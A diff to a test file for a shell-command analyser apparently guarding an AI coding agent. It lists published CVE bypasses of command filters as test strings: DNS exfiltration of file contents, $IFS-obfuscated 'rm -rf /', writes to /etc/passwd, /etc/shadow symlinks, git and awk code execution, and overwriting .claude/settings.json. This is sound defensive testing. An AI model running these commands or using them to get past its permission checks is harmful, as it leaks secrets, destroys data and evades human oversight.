@@ -1,7 +1,10 @@
 import { describe, expect, test } from 'vitest';
 import { allReasons, analysed, effects, reasons, tree } from '../analyse/testing/analysed.ts';
 
-/** Published ways past the command filters of other tools. Each was an allowed program with an argument that nobody had thought of. */
+/**
+ * Published ways past the command filters of other tools. Each was an allowed program with an argument that nobody had
+ * thought of.
+ */
 const kinds = (line: string): readonly string[] => reasons(analysed(line));
 const unexplained = (line: string): readonly string[] => kinds(line).filter((kind) => kind !== 'repository-code');
 
@@ -14,12 +17,20 @@ describe('CVE-2025-54795: a command behind the quotes of echo', () => {
 
   test('and again in the shell behind it', () => {
     expect(tree(analysed('eval echo "\\"; touch a; echo \\""'))).toContain('1<0 echo ; touch a; echo ');
-    expect(effects(analysed("sh -c 'echo \"\"; touch a; echo \"\"'"))).toContain('write /srv/project/a');
+    expect(effects(analysed('sh -c \'echo ""; touch a; echo ""\''))).toContain('write /srv/project/a');
   });
 });
 
 describe('CVE-2025-58764: a program of rg', () => {
-  test.each(['rg --pre ./x a', 'rg --pre=/tmp/x a', "rg --pre='sh -c id' a", 'rg --hostname-bin=/tmp/x --hyperlink-format=x a', 'rg --search-zip a', 'timeout 5 rg --pre /tmp/x a', 'ls | xargs rg --pre /tmp/x'])('%s', (line) => {
+  test.each([
+    'rg --pre ./x a',
+    'rg --pre=/tmp/x a',
+    "rg --pre='sh -c id' a",
+    'rg --hostname-bin=/tmp/x --hyperlink-format=x a',
+    'rg --search-zip a',
+    'timeout 5 rg --pre /tmp/x a',
+    'ls | xargs rg --pre /tmp/x',
+  ])('%s', (line) => {
     expect(unexplained(line)).not.toEqual([]);
   });
 
@@ -58,9 +69,9 @@ describe('CVE-2025-66032: eight ways past a list of harmless commands', () => {
     ['$IFS', 'rm$IFS-rf$IFS/'],
     ['$IFS in braces', 'touch${IFS}a'],
     ['$IFS as an argument', 'rm $IFS/etc'],
-    ['${@P}', "ls ${@P}"],
+    ['${@P}', 'ls ${@P}'],
     ['${x@P}', "x='$(touch a)'; echo ${x@P}"],
-    ['${x@P} in quotes', "x='$(touch a)'; echo \"${x@P}\""],
+    ['${x@P} in quotes', 'x=\'$(touch a)\'; echo "${x@P}"'],
   ])('%s: %j', (_, line) => {
     const analysis = analysed(line);
     const isSeen = effects(analysis).some((effect) => /^(?:write|delete) /u.test(effect));
@@ -73,11 +84,23 @@ describe('CVE-2025-66032: eight ways past a list of harmless commands', () => {
 });
 
 describe('CVE-2025-55284: names that are looked up carry what was read', () => {
-  test.each(['ping -c1 $(cat a).example.com', 'nslookup `cat a`.example.com', 'dig "$(base64 a).example.com"', 'host $(cat a).example.com', 'curl "http://$(cat a).example.com/"', 'getent hosts $(cat a).example.com'])('%s is asked about', (line) => {
+  test.each([
+    'ping -c1 $(cat a).example.com',
+    'nslookup `cat a`.example.com',
+    'dig "$(base64 a).example.com"',
+    'host $(cat a).example.com',
+    'curl "http://$(cat a).example.com/"',
+    'getent hosts $(cat a).example.com',
+  ])('%s is asked about', (line) => {
     expect(unexplained(line)).not.toEqual([]);
   });
 
-  test.each(['ping -c1 secret.example.com', 'nslookup secret.example.com', 'dig secret.example.com TXT', 'host secret.example.com'])('%s reaches its host', (line) => {
+  test.each([
+    'ping -c1 secret.example.com',
+    'nslookup secret.example.com',
+    'dig secret.example.com TXT',
+    'host secret.example.com',
+  ])('%s reaches its host', (line) => {
     expect(effects(analysed(line))).toContain('host secret.example.com');
   });
 });
@@ -96,16 +119,26 @@ describe('CVE-2026-24887: find runs, writes and deletes', () => {
     expect(effects(analysed(line))).toContain(effect);
   });
 
-  test.each(["find . -exec sh -c 'touch $0' {} ';'", 'find . -exec /tmp/x {} +', "find . -okdir no-such-program ';'", 'find . -no-such-test', 'find . $X', 'find . -files0-from $X'])('%s is asked about', (line) => {
+  test.each([
+    "find . -exec sh -c 'touch $0' {} ';'",
+    'find . -exec /tmp/x {} +',
+    "find . -okdir no-such-program ';'",
+    'find . -no-such-test',
+    'find . $X',
+    'find . -files0-from $X',
+  ])('%s is asked about', (line) => {
     expect(unexplained(line)).not.toEqual([]);
   });
 });
 
 describe('CVE-2026-24053: zsh writes where bash only has a word', () => {
-  test.each(['echo x >! a', 'echo x >!a', 'echo x >>! a', '=ls', 'ls *(e:touch a:)', 'ls (#q)'])('%s for zsh is not read at all', (line) => {
-    expect(reasons(analysed(line, 'zsh'))).toEqual(['shell']);
-    expect(kinds(`zsh -c '${line}'`)).toEqual(['shell']);
-  });
+  test.each(['echo x >! a', 'echo x >!a', 'echo x >>! a', '=ls', 'ls *(e:touch a:)', 'ls (#q)'])(
+    '%s for zsh is not read at all',
+    (line) => {
+      expect(reasons(analysed(line, 'zsh'))).toEqual(['shell']);
+      expect(kinds(`zsh -c '${line}'`)).toEqual(['shell']);
+    },
+  );
 
   test('bash writes a file of that name', () => {
     expect(effects(analysed('echo x >!a'))).toEqual(['write /srv/project/!a']);
@@ -127,17 +160,39 @@ describe('CVE-2026-25722: cd changes what a path means', () => {
   });
 
   test('cd .claude; echo x > settings.json tells both places', () => {
-    expect(effects(analysed('cd .claude; echo x > settings.json'))).toEqual(['write /srv/project/settings.json', 'write /srv/project/.claude/settings.json']);
+    expect(effects(analysed('cd .claude; echo x > settings.json'))).toEqual([
+      'write /srv/project/settings.json',
+      'write /srv/project/.claude/settings.json',
+    ]);
   });
 
-  test.each(['cd $X; echo x > settings.json', 'f() { echo x > settings.json; }; cd .claude && f', 'cd $X && touch a', 'cd - && touch a', 'for i in 1 2; do cd ..; touch a; done', 'if true; then cd ..; fi; touch a', 'f() { cd /etc; }; f; touch passwd', 'eval "$X"; touch a', 'popd && touch a'])('%s is asked about', (line) => {
+  test.each([
+    'cd $X; echo x > settings.json',
+    'f() { echo x > settings.json; }; cd .claude && f',
+    'cd $X && touch a',
+    'cd - && touch a',
+    'for i in 1 2; do cd ..; touch a; done',
+    'if true; then cd ..; fi; touch a',
+    'f() { cd /etc; }; f; touch passwd',
+    'eval "$X"; touch a',
+    'popd && touch a',
+  ])('%s is asked about', (line) => {
     expect(unexplained(line)).toContain('dynamic-word');
     expect(effects(analysed(line))).not.toContain('write /srv/project/a');
   });
 });
 
 describe('CVE-2026-25723: what is piped into sed', () => {
-  test.each(["echo x | sed 'w /etc/passwd'", "echo x | sed -n 'w/etc/passwd'", "printf x | sed 's/x/y/w /etc/passwd'", "echo 'touch a' | sed 's/^//e'", 'echo x | sed -i s/x/y/ /etc/passwd', "echo p | sed -f - /etc/passwd", "echo x | tee /etc/passwd", "echo x | sed -n 'e touch a'"])('%s', (line) => {
+  test.each([
+    "echo x | sed 'w /etc/passwd'",
+    "echo x | sed -n 'w/etc/passwd'",
+    "printf x | sed 's/x/y/w /etc/passwd'",
+    "echo 'touch a' | sed 's/^//e'",
+    'echo x | sed -i s/x/y/ /etc/passwd',
+    'echo p | sed -f - /etc/passwd',
+    'echo x | tee /etc/passwd',
+    "echo x | sed -n 'e touch a'",
+  ])('%s', (line) => {
     const analysis = analysed(line);
     expect(effects(analysis).includes('write /etc/passwd') || unexplained(line).length > 0).toBe(true);
   });
@@ -145,7 +200,9 @@ describe('CVE-2026-25723: what is piped into sed', () => {
 
 describe('CVE-2026-25724: a link leads past a rule', () => {
   test('the link is told of; where a path leads is for whoever resolves it', () => {
-    expect(effects(analysed('ln -s /etc/shadow a && cat a'))).toEqual(expect.arrayContaining([expect.stringMatching(/^write \/srv\/project\/a/u), 'read /srv/project/a']));
+    expect(effects(analysed('ln -s /etc/shadow a && cat a'))).toEqual(
+      expect.arrayContaining([expect.stringMatching(/^write \/srv\/project\/a/u), 'read /srv/project/a']),
+    );
   });
 
   test.each(['ln -s $X a', 'ln -s /etc "$X"'])('%s is asked about', (line) => {
@@ -154,18 +211,50 @@ describe('CVE-2026-25724: a link leads past a rule', () => {
 });
 
 describe('CVE-2026-55607: git runs what a worktree configures', () => {
-  test.each(['git status', 'git diff', 'git -C worktree status', 'cd worktree && git status', 'git worktree add b', 'git log -p', 'git show', 'git blame a', 'git add a', 'git commit -m x', 'git checkout b', 'git stash'])('%s runs code of the repository', (line) => {
+  test.each([
+    'git status',
+    'git diff',
+    'git -C worktree status',
+    'cd worktree && git status',
+    'git worktree add b',
+    'git log -p',
+    'git show',
+    'git blame a',
+    'git add a',
+    'git commit -m x',
+    'git checkout b',
+    'git stash',
+  ])('%s runs code of the repository', (line) => {
     expect(kinds(line)).toContain('repository-code');
   });
 
-  test.each(['git -c core.fsmonitor=./x status', 'git --git-dir=./x status', 'git --work-tree=/ status', 'GIT_DIR=x git status', 'GIT_CONFIG_GLOBAL=x git status', 'git --exec-path=. status', 'git --config-env=core.pager=X log', 'git no-such-alias', 'git config core.fsmonitor ./x'])('%s is asked about', (line) => {
+  test.each([
+    'git -c core.fsmonitor=./x status',
+    'git --git-dir=./x status',
+    'git --work-tree=/ status',
+    'GIT_DIR=x git status',
+    'GIT_CONFIG_GLOBAL=x git status',
+    'git --exec-path=. status',
+    'git --config-env=core.pager=X log',
+    'git no-such-alias',
+    'git config core.fsmonitor ./x',
+  ])('%s is asked about', (line) => {
     const isWritten = effects(analysed(line)).some((effect) => effect.startsWith('write '));
     expect(isWritten || unexplained(line).length > 0).toBe(true);
   });
 });
 
 describe('awk is a language', () => {
-  test.each(["awk 'BEGIN { system(\"touch a\") }'", "awk '{ print > \"a\" }' b", "awk '{ print | \"sh\" }' b", "awk 'BEGIN { while ((\"id\" | getline x) > 0) print x }'", "awk 'BEGIN { getline x < \"/etc/shadow\" }'", "awk -v x=1 '@load \"filefuncs\"' a", "awk -i inplace '{ print }' a", 'awk "$X" a'])('%s is asked about', (line) => {
+  test.each([
+    'awk \'BEGIN { system("touch a") }\'',
+    'awk \'{ print > "a" }\' b',
+    'awk \'{ print | "sh" }\' b',
+    'awk \'BEGIN { while (("id" | getline x) > 0) print x }\'',
+    'awk \'BEGIN { getline x < "/etc/shadow" }\'',
+    'awk -v x=1 \'@load "filefuncs"\' a',
+    "awk -i inplace '{ print }' a",
+    'awk "$X" a',
+  ])('%s is asked about', (line) => {
     expect(unexplained(line)).not.toEqual([]);
   });
 });
